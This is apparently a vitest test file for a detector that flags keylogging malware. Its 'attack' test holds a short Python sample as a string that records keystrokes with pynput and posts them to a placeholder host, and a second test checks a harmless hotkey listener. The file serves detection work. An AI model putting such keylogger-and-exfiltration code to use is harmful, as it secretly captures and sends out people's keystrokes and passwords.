import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-keys.ts'

const seen = async (files: Record<string, string>) =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}`,
  )

test('attack: recorded and sent', async () => {
  const code =
    'from pynput.keyboard import Listener\nimport requests\nkeys = []\ndef on(key):\n  keys.append(str(key))\n  requests.post("https://c.invalid", data="".join(keys))\nListener(on_press=on).start()'
  expect(await seen({ 'a.py': code })).toEqual(['strong 7 a.py:7'])
})

test('innocent: a hotkey', async () => {
  const code = 'from pynput.keyboard import Listener\nListener(on_press=lambda key: print(key)).start()'
  expect(await seen({ 'a.py': code })).toEqual(['context 1.5 a.py:2'])
})
